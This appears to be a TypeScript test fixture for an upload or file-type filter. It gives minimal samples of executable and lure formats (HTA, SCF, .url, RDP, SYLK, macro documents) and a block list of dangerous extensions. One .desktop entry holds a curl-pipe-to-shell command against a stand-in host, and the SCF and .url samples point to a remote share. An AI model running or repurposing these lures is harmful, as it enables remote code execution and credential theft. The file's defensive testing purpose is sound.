import { zipOf } from '../zip.ts'

/** What is opened as something else than a text or a document, by its bytes; each as it comes. */
export const RUNNING: Readonly<Record<string, string | Uint8Array>> = {
  hta: '<html><head><title>Invoice</title><HTA:APPLICATION id="x"><script language="VBScript">Set s = CreateObject("WScript.Shell")</script></head></html>',
  msc: '<?xml version="1.0"?>\n<MMC_ConsoleFile ConsoleVersion="3.0"><BinaryStorage/></MMC_ConsoleFile>',
  wsf: '<job id="a"><script language="JScript">new ActiveXObject("WScript.Shell")</script></job>',
  sct: '<?XML version="1.0"?><scriptlet><registration progid="a"/></scriptlet>',
  'settingcontent-ms':
    '<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  'library-ms':
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>',
  'search-ms': '<?xml version="1.0"?><persistedQuery version="1.0"/>',
  application: '<asmv1:assembly manifestVersion="1.0"><deployment install="true"/></asmv1:assembly>',
  appinstaller: '<AppInstaller Uri="https://a.example/a.appinstaller"/>',
  jnlp: '<?xml version="1.0"?><jnlp spec="1.0+" codebase="https://a.example/"><application-desc/></jnlp>',
  mobileconfig:
    '<?xml version="1.0"?><plist version="1.0"><dict><key>PayloadType</key><string>Configuration</string></dict></plist>',
  webloc: '<plist version="1.0"><dict><key>URL</key><string>file:///a</string></dict></plist>',
  url: '[InternetShortcut]\r\nURL=file://192.0.2.7/a/b.exe\r\n',
  desktop: '[Desktop Entry]\nType=Application\nExec=sh -c "curl a.example | sh"\n',
  scf: '[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.7\\a.ico\r\n',
  theme: '[Theme]\n[Control Panel\\Desktop]\nSCRNSAVE.EXE=a.scr\n',
  inf: '[Version]\nSignature="$Windows NT$"\n[DefaultInstall]\n',
  reg: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n',
  rdp: 'full address:s:192.0.2.7\r\nprompt for credentials:i:1\r\n',
  iqy: 'WEB\r\n1\r\nhttps://a.example/a\r\n',
  slk: 'ID;P\nO;E\nNN;NAuto_open;ER101C1\n',
  lnk: Buffer.concat([Buffer.from('L\0\0\0\x01\x14\x02\0', 'latin1'), Buffer.alloc(80)]),
  chm: Buffer.concat([Buffer.from('ITSF\x03\0', 'latin1'), Buffer.alloc(80)]),
  vhdx: Buffer.concat([Buffer.from('vhdxfile', 'latin1'), Buffer.alloc(80)]),
  vhd: Buffer.concat([Buffer.from('conectix', 'latin1'), Buffer.alloc(80)]),
  wim: Buffer.concat([Buffer.from('MSWIM\0\0\0', 'latin1'), Buffer.alloc(80)]),
  pkg: Buffer.concat([Buffer.from('xar!\0', 'latin1'), Buffer.alloc(80)]),
  iso: Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001')]),
  udf: Buffer.concat([Buffer.alloc(32_769), Buffer.from('BEA01')]),
  img: Buffer.concat([Buffer.from([0xeb, 0x3c, 0x90]), Buffer.alloc(507), Buffer.from([0x55, 0xaa])]),
  'signed.mobileconfig': Buffer.concat([
    Buffer.from([0x30, 0x82, 1, 0, 6, 9]),
    Buffer.from('<plist><key>PayloadType</key></plist>'),
  ]),
  docm: zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<a/>', 'word/vbaProject.bin': 'x' }),
  xlsm: zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<a/>', 'xl/vbaProject.bin': 'x' }),
  doc: Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    Buffer.from('_VBA_PROJECT', 'utf16le'),
  ]),
  apk: zipOf({ 'res/a.xml': '', 'AndroidManifest.xml': '' }),
  jar: zipOf({ 'META-INF/MANIFEST.MF': '', 'a/B.class': '' }),
  msix: zipOf({ 'a.dll': '', 'AppxManifest.xml': '' }),
  ipa: zipOf({ 'Payload/A.app/Info.plist': '' }),
}
/** What runs by its name, whatever text it is. */
export const NAMES =
  'exe msi scr com pif bat cmd ps1 psm1 vbs vbe js jse wsf wsh hta cpl reg msc lnk url jar sh command py desktop settingcontent-ms mobileconfig jnlp chm iso img vhd dmg pkg deb rpm appimage apk xll docm xlsm pptm application appinstaller library-ms scf inf rdp iqy slk'.split(
    ' ',
  )
